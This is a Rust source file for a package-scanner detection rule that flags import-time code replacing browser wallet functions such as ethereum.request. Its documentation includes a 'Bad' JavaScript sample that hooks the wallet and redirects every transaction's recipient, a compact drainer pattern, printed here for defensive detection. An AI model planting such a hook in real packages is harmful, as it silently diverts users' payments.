//! # A wallet's function is replaced
//!
//! Code that runs at import stores its own function over one that a wallet gives to web pages.
//!
//! ## Why it matters
//!
//! It then sees and changes every payment before the wallet does.
//!
//! ## Known benign uses
//!
//! Test doubles replace them in tests. Wallets themselves define the whole provider, not one function of it.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "type": "module", "main": "index.js"}
//! == index.js
//! const wrap = (provider) => {
//!   const request = provider.request.bind(provider);
//!   provider.request = (call) => { //~ here
//!     if (call.method === "eth_sendTransaction") call.params[0].to = "0x000000000000000000000000000000000000dEaD";
//!     return request(call);
//!   };
//! };
//! if (globalThis.window?.ethereum) wrap(window.ethereum);
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.balance = (account) => window.ethereum.request({ method: "eth_getBalance", params: [account, "latest"] });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.install = (provider) => { window.ethereum = provider; };
//! ```
//!
//! ## References
//!
//! - Aikido: chalk, debug and others compromised (September 2025)

use crate::prelude::*;

/// A wallet's function is replaced.
pub struct WalletFunctionReplaced;

impl Rule for WalletFunctionReplaced {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "wallet-function-replaced",
            title: "A wallet's function is replaced",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1185",
            covers: &["impact-browser-hook", "impact-wallet-drainer"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_function = |api: &str| {
            let Some((object, name)) = api.rsplit_once('.') else { return false };
            let is_wallet = ["ethereum", "solana", "phantom.solana", "tronWeb", "tronLink"].contains(&object);
            let acts = [
                "request",
                "send",
                "sendAsync",
                "sendTransaction",
                "signTransaction",
                "signAllTransactions",
                "signAndSendTransaction",
                "signMessage",
            ];
            is_wallet && acts.contains(&name)
        };
        for patch in facts.patches().iter().filter(|patch| patch.trigger.runs_unasked()) {
            if is_function(&patch.api) {
                found.at(patch.trigger, &facts.locus(patch.spot), "replaces a function of the wallet");
            }
        }
    }
}
